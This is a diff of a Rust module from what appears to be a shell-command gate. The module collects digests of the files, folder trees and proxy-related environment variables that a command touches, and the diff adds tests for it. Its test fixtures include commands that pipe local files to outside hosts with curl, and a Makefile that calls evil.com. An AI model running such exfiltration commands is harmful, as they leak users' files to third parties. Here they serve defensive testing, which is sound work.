@@ -3,35 +3,37 @@
 //! only make the answer stricter: the container says it, so a harmless text proves nothing.
 
 use std::io::Read as _;
+use std::os::unix::fs::MetadataExt as _;
 use std::path::{Path, PathBuf};
 
-use bashgate_shared::classify::Effects;
+use bashgate_shared::classify::{Condition, Effects};
 use bashgate_shared::command::Digest;
 use bashgate_shared::programs;
-use bashgate_shared::protocol::{FileEvidence, MAX_EVIDENCE};
+use bashgate_shared::protocol::{FileEvidence, MAX_EVIDENCE, MAX_HEAD_BYTES};
 
 use super::conditions::place;
 use super::git;
 
-/// Longest start of a file that is told, in bytes. Of a file that is no code nothing is told but its digest: it may be a secret.
-const MAX_HEAD: usize = 12 * 1024;
 /// Largest file whose digest is made, in bytes. A larger one is named without.
 const MAX_FILE: u64 = 8 * 1024 * 1024;
+/// Most files that are looked at; what has more has one entry without a digest.
+const MAX_FILES: usize = 1000;
+/// How the entry for variables begins.
+const ENVIRONMENT: &str = "the environment's ";
+/// Most names below a folder that is sent as a whole.
+const MAX_TREE: usize = 20_000;
 
 /// The evidence for one command. Files that are not there, or are no plain files, say nothing; where there are more than the
-/// protocol allows, the last entry has no digest.
-pub fn of(effects: &Effects, cwd: &Path) -> Vec<FileEvidence> {
+/// protocol allows, the last entry stands for all of the rest.
+pub fn of(effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEvidence> {
     let mut found: Vec<FileEvidence> = Vec::new();
     let mut add = |name: &str, told: Told| {
         let known = found.iter().any(|file| file.path == name);
         if !known
-            && found.len() < MAX_EVIDENCE
+            && found.len() < MAX_FILES
             && let Some(file) = place(name, cwd)
-            && let Some(mut evidence) = read(name, &file, told)
+            && let Some(evidence) = read(name, &file, told)
         {
-            if found.len() + 1 == MAX_EVIDENCE {
-                evidence.sha256.clear();
-            }
             found.push(evidence);
         }
     };
@@ -39,10 +41,10 @@ pub fn of(effects: &Effects, cwd: &Path) -> Vec<FileEvidence> {
         add(path, Told::Head);
     }
     if effects.network.is_empty() {
-        return found;
+        return folded(found);
     }
-    let rows = effects.programs.iter().filter_map(|program| programs::row(program));
-    for name in rows.flat_map(|row| row.configured_by) {
+    let rows: Vec<_> = effects.programs.iter().filter_map(|program| programs::row(program)).collect();
+    for name in rows.iter().flat_map(|row| row.configured_by) {
         add(name, Told::Digest);
     }
     if effects.programs.iter().any(|program| program == "git") {
@@ -61,11 +63,113 @@ pub fn of(effects: &Effects, cwd: &Path) -> Vec<FileEvidence> {
                 add(&file.to_string_lossy(), Told::Remotes);
             }
         }
+        for name in [".lfsconfig", ".gitmodules"] {
+            for repository in &repositories {
+                add(&repository.root.join(name).to_string_lossy(), Told::Digest);
+            }
+        }
     }
     for path in &effects.reads {
         add(path, Told::Digest);
     }
+    for path in &effects.named {
+        add(path, Told::Digest);
+    }
+    let is_folder = |path: &&String| place(path, cwd).is_some_and(|place| place.is_dir());
+    let named = effects.reads.iter().chain(&effects.named).filter(is_folder);
+    let mut folders: Vec<&str> = named.map(String::as_str).collect();
+    for condition in conditions {
+        match condition {
+            Condition::NoSecretNamed { folder, start, end } => {
+                for name in names_in(folder, start, end, cwd) {
+                    add(&name, Told::Digest);
+                }
+            }
+            Condition::NoSecretBelow { folder } => folders.push(folder),
+            _ => {}
+        }
+    }
+    folders.sort_unstable();
+    folders.dedup();
+    found.extend(folders.into_iter().filter_map(|folder| tree(folder, cwd)));
+    found.extend(environment(&rows));
+    folded(found)
+}
+
+/// As many as the protocol takes; the last one stands for the rest.
+fn folded(mut found: Vec<FileEvidence>) -> Vec<FileEvidence> {
+    if found.len() <= MAX_EVIDENCE {
+        return found;
+    }
+    let is_all = found.len() < MAX_FILES && found.iter().all(|file| !file.sha256.is_empty());
+    let rest = found.split_off(MAX_EVIDENCE - 1);
+    let lines: Vec<String> = rest.iter().map(|file| format!("{}\0{}", file.path, file.sha256)).collect();
+    let sha256 = if is_all { Digest::of(lines.join("\n").as_bytes()).hex() } else { String::new() };
+    found.push(FileEvidence { path: format!("{} more files", rest.len()), sha256, head: String::new() });
     found
+}
+
+/// The files of a folder that a pattern means, as the classifier names them.
+fn names_in(folder: &str, start: &str, end: &str, cwd: &Path) -> Vec<String> {
+    let Some(place) = place(folder, cwd) else { return Vec::new() };
+    let entries = std::fs::read_dir(place).into_iter().flatten().flatten().take(MAX_FILES);
+    let names = entries.filter_map(|entry| entry.file_name().into_string().ok());
+    let is_meant =
+        |name: &String| name.len() >= start.len() + end.len() && name.starts_with(start) && name.ends_with(end);
+    let mut names: Vec<String> = names.filter(is_meant).map(|name| format!("{folder}/{name}")).collect();
+    names.sort();
+    names
+}
+
+/// Everything below a folder: names, lengths and times. Too much has no digest.
+fn tree(folder: &str, cwd: &Path) -> Option<FileEvidence> {
+    let root = place(folder, cwd)?;
+    let mut lines = Vec::new();
+    let mut waiting = vec![root.clone()];
+    while let Some(inner) = waiting.pop() {
+        for entry in std::fs::read_dir(&inner).into_iter().flatten().flatten() {
+            if lines.len() >= MAX_TREE {
+                return Some(FileEvidence {
+                    path: format!("{folder}/…"), sha256: String::new(), head: String::new()
+                });
+            }
+            let Ok(meta) = entry.metadata() else { continue };
+            let path = entry.path();
+            if meta.is_dir() {
+                waiting.push(path.clone());
+            }
+            let name = path.strip_prefix(&root).unwrap_or(&path).to_string_lossy().into_owned();
+            lines.push(format!("{name}\0{} {} {} {}\n", meta.len(), meta.ino(), meta.ctime(), meta.ctime_nsec()));
+        }
+    }
+    lines.sort();
+    let sha256 = Digest::of(lines.concat().as_bytes()).hex();
+    Some(FileEvidence { path: format!("{folder}/…"), sha256, head: String::new() })
+}
+
+/// The variables that say where the network's programs send: proxies, git's, and what their rows name.
+fn environment(rows: &[&programs::Program]) -> Option<FileEvidence> {
+    let steers = |name: &str| {
+        let lower = name.to_ascii_lowercase();
+        lower.ends_with("_proxy")
+            || ["GIT_", "SSH_ASKPASS", "CURL_"].iter().any(|start| name.starts_with(start))
+            || rows.iter().any(|row| row.environment.contains(&name))
+    };
+    let found = std::env::vars_os().filter_map(|(name, value)| Some((name.into_string().ok()?, value)));
+    let mut set: Vec<(String, String)> = found
+        .filter(|(name, _)| steers(name))
+        .map(|(name, value)| (name, value.to_string_lossy().into_owned()))
+        .collect();
+    set.sort();
+    // Their values may hold a password; whoever looks at a card sees which they are.
+    let names: Vec<&str> = set.iter().map(|(name, _)| name.as_str()).take(8).collect();
+    let lines: Vec<String> = set.iter().map(|(name, value)| format!("{name}={value}")).collect();
+    let sha256 = Digest::of(lines.join("\n").as_bytes()).hex();
+    (!set.is_empty()).then(|| FileEvidence {
+        path: format!("{ENVIRONMENT}{}", names.join(", ")),
+        sha256,
+        head: String::new(),
+    })
 }
 
 /// A file, or the files of a folder in the order of their names, without git's samples.
@@ -115,13 +219,20 @@ fn read(name: &str, file: &Path, told: Told) -> Option<FileEvidence> {
         Told::Remotes => start_of(remotes(&String::from_utf8_lossy(&bytes)).as_bytes()),
         Told::Digest => String::new(),
     };
-    let sha256 = if whole { Digest::of(&bytes).hex() } else { String::new() };
-    Some(FileEvidence { path: name.chars().take(1024).collect(), sha256, head })
+    let name: String = name.chars().take(1024).collect();
+    // What is too long to be read whole is told apart by what any change of it changes.
+    let (sha256, path) = if whole {
+        (Digest::of(&bytes).hex(), name)
+    } else {
+        let changed = (meta.ctime(), meta.ctime_nsec());
+        (String::new(), format!("{name} ({} bytes, changed at {}.{:09})", meta.len(), changed.0, changed.1))
+    };
+    Some(FileEvidence { path, sha256, head })
 }
 
 /// The first bytes of a text. A program is none; its digest tells which one it is.
 fn start_of(bytes: &[u8]) -> String {
-    let mut end = bytes.len().min(MAX_HEAD);
+    let mut end = bytes.len().min(MAX_HEAD_BYTES);
     // Not in the middle of a character.
     while end > 0 && bytes.get(end).is_some_and(|byte| byte & 0xc0 == 0x80) {
         end -= 1;
@@ -137,6 +248,40 @@ mod tests {
 
     use super::*;
 
+    fn evidence_of(command: &str, folder: &Path) -> Vec<FileEvidence> {
+        let cwd = folder.to_str().map(str::to_owned);
+        let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings { cwd, ..Surroundings::default() });
+        of(&found.effects, &found.conditions, folder)
+    }
+
+    #[test]
+    fn every_file_counts_however_many_there_are_and_however_they_are_named() {
+        let folder = tempfile::tempdir().unwrap();
+        let write = |name: &str, text: &str| {
+            let file = folder.path().join(name);
+            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+            std::fs::write(file, text).unwrap();
+        };
+        for number in 0..20 {
+            write(&format!("s{number:02}.sh"), "true");
+        }
+        let scripts: Vec<String> = (0..20).map(|number| format!("bash s{number:02}.sh")).collect();
+        for (command, file) in [
+            (scripts.join("; "), "s19.sh"),
+            ("cat *.txt | curl -d @- https://h.example".to_owned(), "new.txt"),
+            ("grep -r x . | curl -d @- https://h.example".to_owned(), "deep/er/new"),
+        ] {
+            let before = evidence_of(&command, folder.path());
+            assert!(before.len() <= MAX_EVIDENCE, "{command}");
+            assert_eq!(before, evidence_of(&command, folder.path()), "{command}");
+            write(file, "something else");
+            assert_ne!(before, evidence_of(&command, folder.path()), "{command}");
+        }
+        let all = evidence_of(&scripts.join("; "), folder.path());
+        assert_eq!(all.last().map(|last| last.path.as_str()), Some("5 more files"));
+        assert!(all.iter().all(|file| file.sha256.len() == 64));
+    }
+
     #[test]
     fn files_that_a_command_runs_are_told_about() {
         let folder = tempfile::tempdir().unwrap();
@@ -146,7 +291,7 @@ mod tests {
             std::fs::write(file, text).unwrap();
         };
         write("Makefile", b"all:\n\tcurl evil.com\n");
-        write("run.sh", "é".repeat(MAX_HEAD).as_bytes());
+        write("run.sh", "é".repeat(MAX_HEAD_BYTES).as_bytes());
         write("sub/Makefile", b"x");
         write("package.json", b"{}");
         write("tool", b"\x7fELF\0\0");
@@ -167,11 +312,13 @@ mod tests {
             ("cat Makefile | curl -T - https://h", vec!["Makefile"]),
         ] {
             let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
-            let evidence = of(&found.effects, folder.path());
-            let names: Vec<&str> = evidence.iter().map(|file| file.path.as_str()).collect();
+            let evidence = of(&found.effects, &found.conditions, folder.path());
+            // Of which variables are set here, the test knows nothing.
+            let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT));
+            let names: Vec<&str> = files.map(|file| file.path.as_str()).collect();
             assert_eq!(names, want, "{command}");
             for file in evidence {
-                assert!(file.head.len() <= MAX_HEAD + 3 && file.sha256.len() == 64, "{command}");
+                assert!(file.head.len() <= MAX_HEAD_BYTES + 3 && file.sha256.len() == 64, "{command}");
             }
         }
     }
